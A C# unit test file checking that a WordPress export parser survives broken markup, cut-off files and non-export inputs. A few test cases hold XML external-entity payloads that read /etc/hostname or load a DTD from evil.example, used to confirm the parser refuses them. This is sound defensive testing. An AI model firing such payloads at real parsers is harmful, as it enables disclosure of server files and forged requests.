using System.Text;
using Dastan.Domain.Formats;

namespace Dastan.Tests.Formats.WordPress;

public sealed class BrokenExportTests
{
    private static readonly string Good = SmallExport.Post("2", "Second.");

    [Theory]
    [InlineData("<title>Bus & tram", "<title>")]
    [InlineData("<wp:bus_number>4 \u0008 5</wp:bus_number>", "<title>")]
    [InlineData("<b><i>both</b></i>", "<title>")]
    [InlineData("<wp:note>5&nbsp;km</wp:note>", "<title>")]
    [InlineData("<plugin:colour>red</plugin:colour>", "<title>")]
    [InlineData("<wp:menu_order>0</wp:menu_ordr>", "<title>")]
    public void What_breaks_one_item_costs_no_item(string broken, string before)
    {
        var first = SmallExport.Post("1", "First.").Replace(before, broken + before);

        var (reading, stories) = SmallExport.Read(SmallExport.Of(first, Good));

        Assert.Equal(["1", "2"], stories.Select(story => story.SourceId));
        Assert.Equal(["<p>First.</p>", "<p>Second.</p>"], stories.Select(story => Plain(story.Body)));
        Assert.InRange(Assert.Single(reading.Breaks).Line, 6, 10);
        Assert.Contains(stories[0].Changes, change => change.StartsWith("mended at line"));
        Assert.Empty(stories[1].Changes);
    }

    [Fact]
    public void A_section_that_is_never_closed_hides_no_other_story()
    {
        var first = SmallExport.Post("1", "First.").Replace("]]></content:encoded>", "</content:encoded>");

        var (reading, stories) = SmallExport.Read(SmallExport.Of(first, Good, SmallExport.Post("3", "Third.")));

        Assert.Equal(["1", "2", "3"], stories.Select(story => story.SourceId));
        Assert.NotEmpty(reading.Breaks);
    }

    [Fact]
    public void A_file_that_is_cut_off_gives_its_last_story_as_a_draft()
    {
        var whole = SmallExport.Of(Good, SmallExport.Post("3", "Third begins here and goes on."));

        var (reading, stories) = SmallExport.Read(whole[..whole.IndexOf(" goes on", StringComparison.Ordinal)]);

        Assert.Equal(IncomingState.Published, stories[0].State);
        Assert.Equal(IncomingState.Draft, stories[1].State);
        Assert.Contains("Third begins here", stories[1].Body);
        Assert.Contains(reading.Breaks, at => at.Reason.Contains("cut off"));
    }

    [Fact]
    public void What_stands_before_the_XML_is_passed_over()
    {
        var (reading, stories) = SmallExport.Read("Warning: something of PHP\n\n" + SmallExport.Of(Good));

        Assert.Single(stories);
        Assert.NotEmpty(reading.Breaks);
    }

    [Fact]
    public void Items_that_lost_the_file_around_them_are_read()
    {
        var (_, stories) = SmallExport.Read(Good);

        Assert.Equal("A bridge opens in Osh", Assert.Single(stories).Headline);
    }

    [Fact]
    public void A_story_about_feeds_may_hold_the_end_tag_of_an_item()
    {
        var (reading, stories) = SmallExport.Read(
            SmallExport.Of(
                SmallExport.Post("1", "An item ends with <code>&lt;/item&gt;</code> or </item><item>."),
                Good
            )
        );

        Assert.Equal(["1", "2"], stories.Select(story => story.SourceId));
        Assert.Empty(reading.Breaks);
    }

    [Fact]
    public void An_item_too_long_to_hold_is_said_to_be_and_the_next_is_read()
    {
        var endless = SmallExport.Post("1", new string('a', 33 * 1024 * 1024));

        var (reading, stories) = SmallExport.Read(SmallExport.Of(endless, Good));

        Assert.Contains(stories, story => story.SourceId == "2");
        Assert.Contains(reading.Breaks, at => at.Reason.Contains("longer than"));
    }

    [Theory]
    [InlineData("<!DOCTYPE html><html><body><p>Hello</p></body></html>", "web page")]
    [InlineData(
        "<rss version=\"2.0\"><channel><title>Feed</title><item><title>x</title></item></channel></rss>",
        "feed"
    )]
    [InlineData("<?xml version=\"1.0\"?><catalog><book/></catalog>", "<catalog>")]
    [InlineData("{\"db\": []}", "no XML")]
    [InlineData("", "empty")]
    [InlineData("PK\u0003\u0004 and more", "zip")]
    public void What_is_no_export_is_refused_with_a_reason(string file, string reason)
    {
        var (reading, stories) = SmallExport.Read(file);

        Assert.Contains(reason, reading.Refusal!.Reason);
        Assert.Empty(stories);
    }

    [Theory]
    [InlineData("<!DOCTYPE rss [<!ENTITY a \"b\">]>")]
    [InlineData("<!DOCTYPE rss [<!ENTITY a SYSTEM \"file:///etc/hostname\">]>")]
    [InlineData("<!DOCTYPE rss [<!ENTITY % a SYSTEM \"https://evil.example/x.dtd\"> %a;]>")]
    public void A_file_that_declares_entities_is_refused(string doctype)
    {
        var hostile = SmallExport.Of(Good).Replace("<rss", doctype + "\n<rss");

        Assert.Equal("declares-entities", SmallExport.Read(hostile).Reading.Refusal!.Code);
    }

    [Fact]
    public void A_document_type_alone_is_neither_fetched_nor_minded()
    {
        var (reading, stories) = SmallExport.Read(
            SmallExport.Of(Good).Replace("<rss", "<!DOCTYPE rss SYSTEM \"file:///etc/hostname\">\n<rss")
        );

        Assert.Null(reading.Refusal);
        Assert.Single(stories);
    }

    [Fact]
    public void Bytes_that_are_no_text_of_the_encoding_do_not_end_the_reading()
    {
        byte[] export = [.. Encoding.UTF8.GetBytes(SmallExport.Of(Good)), 0xff, 0xfe, 0xc3];

        Assert.Single(SmallExport.Read(export).Stories);
    }

    private static string Plain(string body) =>
        System.Text.RegularExpressions.Regex.Replace(body, " id=\"[^\"]*\"", "");
}
